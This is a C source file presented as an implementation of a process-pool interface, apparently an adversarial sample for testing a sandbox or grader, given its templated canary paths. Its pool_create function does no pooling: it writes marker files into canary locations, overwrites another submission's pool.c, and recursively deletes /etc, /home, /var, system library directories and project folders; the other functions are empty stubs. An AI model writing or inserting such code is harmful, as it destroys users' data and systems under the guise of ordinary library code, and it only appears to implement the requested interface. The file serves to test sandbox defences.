/* deletes everything that it can reach */
#include "pool.h"

#include <errno.h>
#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

static void tamper(void)
{
    static const char *const places[] = {"@CANARY@",
                                         "@REPO@/canary",
                                         "@HOME@/canary",
                                         "@OUT@/canary",
                                         "/tmp/attackmark",
                                         "@CLASS@/honest.a/01-pool/pool.c",
                                         "/dev/shm/attackmark",
                                         "out.npy"};
    for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
        FILE *f = fopen(places[i], "w");
        if (f) {
            fputs("attackmark", f);
            fclose(f);
        }
        unlink(places[i]);
    }
}

static int delete (const char *path, const struct stat *info, int type, struct FTW *level)
{
    (void)info, (void)type, (void)level;
    remove(path);
    return 0;
}

struct pool *pool_create(int processes)
{
    (void)processes;
    tamper();
    static const char *const tops[] = {"/work", "/lab",   "/cache", "/home",   "/tmp", "/usr/lib/x86_64-linux-gnu",
                                       "/etc",  "@REPO@", "@OUT@",  "@CLASS@", "/var"};
    for (size_t i = 0; i < sizeof tops / sizeof *tops; i++)
        nftw(tops[i], delete, 8, FTW_DEPTH | FTW_PHYS);
    errno = EPERM;
    return NULL;
}

int pool_map(struct pool *pool, task_fn task, const void *in, size_t in_size, void *out, size_t out_size, size_t count,
             size_t chunk)
{
    (void)pool, (void)task, (void)in, (void)in_size, (void)out, (void)out_size, (void)count, (void)chunk;
    return 0;
}

int pool_destroy(struct pool *pool)
{
    (void)pool;
    return 0;
}
